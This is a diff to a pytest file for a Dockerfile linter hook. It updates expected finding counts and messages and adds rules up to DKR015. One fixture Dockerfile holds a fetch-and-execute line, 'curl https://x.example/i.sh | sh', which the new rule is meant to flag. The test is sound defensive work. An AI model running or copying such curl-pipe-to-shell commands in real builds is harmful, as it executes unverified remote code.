@@ -59,7 +59,7 @@ def test_output_is_deterministic(tmp_path: Path, monkeypatch: pytest.MonkeyPatch
     make_task(tmp_path, "FROM node\nRUN apt-get install -y b a && curl https://x.example/i.sh | sh\nRUN echo $RANDOM\n")
     first = run_hook(tmp_path, monkeypatch, capsys)
     second = run_hook(tmp_path, monkeypatch, capsys)
-    assert first == second and first[0] == 1 and first[1].count("\n") == 4
+    assert first == second and first[0] == 1 and first[1].count("\n") == 5  # DKR015 for the pipe
 
 
 @pytest.mark.parametrize(
@@ -85,7 +85,7 @@ def test_bad_input_gives_one_finding(tmp_path: Path, monkeypatch: pytest.MonkeyP
 def test_huge_dockerfile_is_one_finding(tmp_path: Path, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]) -> None:
     make_task(tmp_path, "FROM scratch\n" + "# padding\n" * 200_000)
     code, out = run_hook(tmp_path, monkeypatch, capsys, "tasks/sum-two/Dockerfile")
-    assert code == 1 and out.count("\n") == 1 and "DKR012 Dockerfile is" in out and "byte limit" in out
+    assert code == 1 and out.count("\n") == 1 and "DKR012 Dockerfile is 1.9 MiB, over the 1 MiB limit" in out
 
 
 def test_missing_dockerfile_is_left_to_layout(tmp_path: Path, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]) -> None:
@@ -110,7 +110,7 @@ def test_shipped_dockerfiles_are_clean(path: Path) -> None:
 
 def test_every_rule_is_documented() -> None:
     rules = [r for r in registry.rules().values() if r.code.startswith("DKR")]
-    assert [r.code for r in rules] == [f"DKR{n:03d}" for n in range(1, 13)]
+    assert [r.code for r in rules] == [f"DKR{n:03d}" for n in range(1, 16)]
     for r in rules:
         assert r.summary and r.rationale and r.fix, r.code
     docs = (ROOT / "docs" / "dockerfile.md").read_text(encoding="utf-8")
